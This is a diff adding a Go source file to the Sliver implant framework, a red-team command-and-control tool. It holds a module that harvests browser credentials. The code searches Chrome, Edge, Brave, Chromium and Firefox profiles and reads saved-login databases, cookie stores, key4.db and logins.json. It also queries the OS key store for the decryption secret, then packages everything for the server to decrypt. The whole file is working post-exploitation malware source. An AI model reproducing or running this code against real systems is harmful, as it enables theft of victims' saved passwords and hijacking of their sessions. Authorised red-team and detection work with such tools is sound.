@@ -0,0 +1,180 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"fmt"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// The implant only collects the profile files and the key store secret,
+// databases are parsed and decrypted by the server (see server/browser)
+
+const (
+	firefox = "firefox"
+
+	// Cookie databases of heavy users can get large, anything bigger is skipped
+	maxFileSize = 64 * 1024 * 1024
+)
+
+// chromiumBrowser - A Chromium based browser, userData is its "User Data" directory
+// and keyName identifies its secret in the OS key store
+type chromiumBrowser struct {
+	name     string
+	userData string
+	keyName  string
+}
+
+// Collect - Profile files of the current user's browsers, browsers can be
+// limited by name (chrome, edge, brave, chromium, firefox)
+func Collect(browsers []string, cookies bool) []*sliverpb.BrowserProfile {
+	wanted := func(name string) bool {
+		if len(browsers) == 0 {
+			return true
+		}
+		for _, browser := range browsers {
+			if browser == name {
+				return true
+			}
+		}
+		return false
+	}
+	profiles := []*sliverpb.BrowserProfile{}
+	for _, browser := range chromiumBrowsers() {
+		if wanted(browser.name) {
+			profiles = append(profiles, collectChromium(browser, cookies)...)
+		}
+	}
+	if wanted(firefox) {
+		profiles = append(profiles, collectFirefox(cookies)...)
+	}
+	return profiles
+}
+
+func collectChromium(browser chromiumBrowser, cookies bool) []*sliverpb.BrowserProfile {
+	dirs, err := ioutil.ReadDir(browser.userData)
+	if err != nil {
+		return nil
+	}
+	profiles := []*sliverpb.BrowserProfile{}
+	var secret []byte
+	var secretErr error
+	fetched := false
+	for _, dir := range dirs {
+		path := filepath.Join(browser.userData, dir.Name())
+		if !dir.IsDir() || !exists(filepath.Join(path, "Login Data")) {
+			continue
+		}
+		// Only query the key store if there's a profile, on MacOS this may prompt the user
+		if !fetched {
+			secret, secretErr = chromiumSecret(browser)
+			fetched = true
+		}
+		profile := &sliverpb.BrowserProfile{
+			Browser: browser.name,
+			Name:    dir.Name(),
+			Path:    path,
+			Secret:  secret,
+			Files:   map[string][]byte{},
+		}
+		if secretErr != nil {
+			profile.SecretErr = secretErr.Error()
+		}
+		readFile(profile, "Login Data", filepath.Join(path, "Login Data"))
+		if exists(filepath.Join(path, "Login Data For Account")) {
+			readFile(profile, "Login Data For Account", filepath.Join(path, "Login Data For Account"))
+		}
+		if cookies {
+			// Moved to the Network directory in Chromium 96
+			if exists(filepath.Join(path, "Network", "Cookies")) {
+				readFile(profile, "Cookies", filepath.Join(path, "Network", "Cookies"))
+			} else if exists(filepath.Join(path, "Cookies")) {
+				readFile(profile, "Cookies", filepath.Join(path, "Cookies"))
+			}
+		}
+		profiles = append(profiles, profile)
+	}
+	return profiles
+}
+
+func collectFirefox(cookies bool) []*sliverpb.BrowserProfile {
+	profiles := []*sliverpb.BrowserProfile{}
+	for _, profilesDir := range firefoxProfileDirs() {
+		dirs, err := ioutil.ReadDir(profilesDir)
+		if err != nil {
+			continue
+		}
+		for _, dir := range dirs {
+			path := filepath.Join(profilesDir, dir.Name())
+			if !dir.IsDir() || !exists(filepath.Join(path, "key4.db")) {
+				continue
+			}
+			profile := &sliverpb.BrowserProfile{
+				Browser: firefox,
+				Name:    dir.Name(),
+				Path:    path,
+				Files:   map[string][]byte{},
+			}
+			if exists(filepath.Join(path, "logins.json")) {
+				readFile(profile, "key4.db", filepath.Join(path, "key4.db"))
+				readFile(profile, "logins.json", filepath.Join(path, "logins.json"))
+			}
+			if cookies && exists(filepath.Join(path, "cookies.sqlite")) {
+				readFile(profile, "cookies.sqlite", filepath.Join(path, "cookies.sqlite"))
+				if exists(filepath.Join(path, "cookies.sqlite-wal")) {
+					readFile(profile, "cookies.sqlite-wal", filepath.Join(path, "cookies.sqlite-wal"))
+				}
+			}
+			profiles = append(profiles, profile)
+		}
+	}
+	return profiles
+}
+
+// readFile - Errors are reported per file, e.g. Windows browsers lock their
+// cookie database while running
+func readFile(profile *sliverpb.BrowserProfile, name string, path string) {
+	fi, err := os.Stat(path)
+	if err == nil && maxFileSize < fi.Size() {
+		err = fmt.Errorf("File too large (%d bytes)", fi.Size())
+	}
+	if err == nil {
+		profile.Files[name], err = ioutil.ReadFile(path)
+	}
+	if err != nil {
+		// {{if .Debug}}
+		log.Printf("[browser] failed to read %s: %s", path, err)
+		// {{end}}
+		delete(profile.Files, name)
+		profile.Errors = append(profile.Errors, fmt.Sprintf("%s: %s", name, err))
+	}
+}
+
+func exists(path string) bool {
+	_, err := os.Stat(path)
+	return err == nil
+}